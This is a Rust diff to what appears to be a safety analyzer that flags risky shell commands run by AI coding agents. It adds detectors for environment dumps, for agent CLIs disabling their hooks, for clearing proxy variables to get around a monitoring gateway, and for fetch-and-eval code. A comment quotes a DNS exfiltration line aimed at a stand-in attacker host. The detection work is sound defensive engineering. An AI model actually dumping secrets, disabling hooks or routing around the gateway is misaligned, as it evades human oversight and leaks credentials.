@@ -51,6 +51,7 @@ pub fn analyze_call_in(
         downloaded: Vec::new(),
         persist: Vec::new(),
         shell_copies: Vec::new(),
+        script_text: String::new(),
     };
     let known = tool.known();
     match known {
@@ -672,6 +673,8 @@ struct Analyzer<'a> {
     /// Copies of a shell or interpreter made earlier in the same script (normalized paths):
     /// a setuid bit on one is a root shell for anyone.
     shell_copies: Vec<String>,
+    /// The outermost shell script of the call, as written (what a `crontab -` is fed).
+    script_text: String,
 }
 
 #[derive(Clone, Copy, PartialEq, Eq)]
@@ -697,6 +700,18 @@ impl<'a> Analyzer<'a> {
                 }
             }
         });
+    }
+
+    /// A crontab installed from standard input whose entry the script writes out literally
+    /// (`(crontab -l; echo '0 2 * * * ~/bin/backup.sh') | crontab -`) is judged by that entry,
+    /// like any other write to a file that runs later: a nightly local backup is ordinary, an
+    /// entry that downloads, connects out or decodes is persistence. A crontab read from a file
+    /// or a download shows nothing and stays suspect.
+    fn crontab_shows_harmless_entry(&self, args: &[String]) -> bool {
+        let from_stdin = args.iter().all(|a| a == "-" || a.starts_with('-'));
+        let text = self.script_text.as_str();
+        let shown = ["echo ", "printf ", "<<"].iter().any(|w| text.contains(w));
+        from_stdin && shown && !text.contains('`') && !persists_dangerous_code(text)
     }
 
     fn norm(&self, raw: &str) -> String {
@@ -1629,6 +1644,9 @@ impl<'a> Analyzer<'a> {
 
     fn shell(&mut self, script: &Script, raw: &str) {
         let src = EffectSource::Arguments;
+        if self.script_text.is_empty() {
+            self.script_text = raw.to_owned();
+        }
         if script.pipelines.is_empty() {
             self.set_effect(Effect::Read, src);
         }
@@ -1894,13 +1912,7 @@ impl<'a> Analyzer<'a> {
             self.f
                 .flag(Flag::RemoteCode, format!("{lang} reverse shell"));
         }
-        if (lower.contains("exec(") || lower.contains("eval("))
-            && (lower.contains("urlopen")
-                || lower.contains("requests.get")
-                || lower.contains("urllib")
-                || lower.contains("fetch(")
-                || lower.contains("http.get"))
-        {
+        if runs_code_text(&lower) && fetches_code(&lower) {
             self.f.flag(
                 Flag::RemoteCode,
                 format!("{lang} code executes downloaded code"),
@@ -1924,6 +1936,12 @@ impl<'a> Analyzer<'a> {
         }
         if self.f.targets.commands.len() < 64 {
             self.f.targets.commands.insert(prog.clone());
+        }
+        if dumps_environment(&prog, args, pipeline.get(idx + 1)) {
+            self.f.flag(
+                Flag::CredentialStoreRead,
+                "dumps the whole process environment (its tokens and keys)",
+            );
         }
         // a DNS lookup of a name built from command output sends that output to the name's
         // authoritative server (`dig $(cat secret | base64).attacker.example`)
@@ -2273,8 +2291,10 @@ impl<'a> Analyzer<'a> {
                     self.f.flag(Flag::Destructive, "removes the crontab");
                     Effect::Write
                 } else {
-                    self.f
-                        .flag(Flag::DangerousCommand, "installs a crontab (persistence)");
+                    if !self.crontab_shows_harmless_entry(args) {
+                        self.f
+                            .flag(Flag::DangerousCommand, "installs a crontab (persistence)");
+                    }
                     Effect::Write
                 }
             }
@@ -2556,6 +2576,12 @@ impl<'a> Analyzer<'a> {
                 Effect::Write
             }
             "claude" | "codex" | "gemini" | "cursor-agent" | "aider" | "amp" | "opencode" => {
+                if turns_hooks_off(args) {
+                    self.f.flag(
+                        Flag::OversightTamper,
+                        format!("turns the agent's hooks off ({prog} hooks …)"),
+                    );
+                }
                 Effect::Execute
             }
             _ => {
@@ -2700,6 +2726,15 @@ impl<'a> Analyzer<'a> {
                 Flag::OversightTamper,
                 format!("points {k} at a remote host, around the gateway"),
             );
+        } else if routes_through_gateway(k)
+            && k != "NO_PROXY"
+            && v.trim_matches(['"', '\'']).is_empty()
+        {
+            // `HTTPS_PROXY= curl …`: the command runs without the proxy the gateway set
+            self.f.flag(
+                Flag::OversightTamper,
+                format!("clears {k} for the command, around the gateway"),
+            );
         } else if (k == "HISTFILE" && (v.is_empty() || v == "/dev/null"))
             || (matches!(k, "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST") && v == "0")
         {
@@ -2782,6 +2817,12 @@ impl<'a> Analyzer<'a> {
                 self.f.flag(
                     Flag::PrivilegeEscalation,
                     format!("{prog} {mode} on {}", display_path(t, &n)),
+                );
+            }
+            if !world && recursive && recursive_owner_change_breaks_system(prog, &n, self.p) {
+                self.f.flag(
+                    Flag::DangerousCommand,
+                    format!("{prog} -R {mode} {}", display_path(t, &n)),
                 );
             }
             if world && recursive && paths::catastrophic_delete_target(&n, self.p) {
@@ -3791,6 +3832,88 @@ fn deletes_home_or_root(lower: &str) -> Option<&'static str> {
     None
 }
 
+/// `env` / `printenv` with no variable named prints every variable, API keys and tokens
+/// included, unless the next command filters the listing (`env | grep -i proxy`: a search
+/// for secrets is judged as such elsewhere).
+fn dumps_environment(prog: &str, args: &[String], next: Option<&Command>) -> bool {
+    let filtered = next.is_some_and(|n| {
+        matches!(
+            n.program().as_str(),
+            "grep" | "rg" | "egrep" | "fgrep" | "ag" | "findstr" | "select-string" | "awk" | "sed"
+        )
+    });
+    matches!(prog, "env" | "printenv") && args.iter().all(|a| a.starts_with('-')) && !filtered
+}
+
+/// An agent CLI's hook management told to turn hooks off (`gemini hooks disable NAME`,
+/// `claude hooks remove …`): the monitor those hooks feed stops seeing the agent.
+fn turns_hooks_off(args: &[String]) -> bool {
+    let words: Vec<&str> = args
+        .iter()
+        .map(String::as_str)
+        .filter(|a| !a.starts_with('-'))
+        .take(3)
+        .collect();
+    matches!(words.first(), Some(&"hooks") | Some(&"hook"))
+        && words.get(1).is_some_and(|w| {
+            matches!(
+                *w,
+                "disable" | "remove" | "rm" | "delete" | "uninstall" | "off" | "unregister"
+            )
+        })
+}
+
+/// `chown -R` / `chgrp -R` of the root or a system tree (`/`, `/usr`, `/etc`) hands every
+/// system file to one user: setuid programs, sudoers and services stop working or become
+/// writable. The user's own home (`chown -R me ~`, a common permissions fix) is not that.
+fn recursive_owner_change_breaks_system(prog: &str, n: &str, p: PathCtx<'_>) -> bool {
+    matches!(prog, "chown" | "chgrp")
+        && paths::catastrophic_delete_target(n, p)
+        && !p.home.is_some_and(|h| paths::is_within(n, h))
+        && n != "~"
+        && !n.starts_with("~/")
+}
+
+/// Inline code that evaluates text as code (`eval(d)`, `exec(r.text)`, `new Function(d)()`,
+/// `vm.runInThisContext`, Ruby's `instance_eval`).
+fn runs_code_text(lower: &str) -> bool {
+    [
+        "exec(",
+        "eval(",
+        "new function(",
+        "runinthiscontext",
+        "runinnewcontext",
+        "instance_eval",
+    ]
+    .iter()
+    .any(|k| lower.contains(k))
+}
+
+/// Inline code that fetches something over HTTP, in any of the usual languages' clients
+/// (`urlopen`, `requests.get`, `fetch(`, Node's `require('https').get`, `axios`, Ruby's
+/// `open-uri`/`Net::HTTP`, PHP's `file_get_contents('http…')`).
+fn fetches_code(lower: &str) -> bool {
+    [
+        "urlopen",
+        "requests.get",
+        "urllib",
+        "fetch(",
+        "http.get",
+        "https.get",
+        "require('http",
+        "require(\"http",
+        "axios",
+        "open-uri",
+        "net::http",
+        "lwp::",
+        "file_get_contents('http",
+        "file_get_contents(\"http",
+        "curl_exec",
+    ]
+    .iter()
+    .any(|k| lower.contains(k))
+}
+
 fn urlopen_with_data(lower: &str) -> bool {
     let Some(pos) = lower.find("urlopen(") else {
         return false;
@@ -4263,3 +4386,5 @@ const READONLY_PROGRAMS: &[&str] = &[
 
 #[cfg(test)]
 mod tests;
+#[cfg(test)]
+mod tests_action;
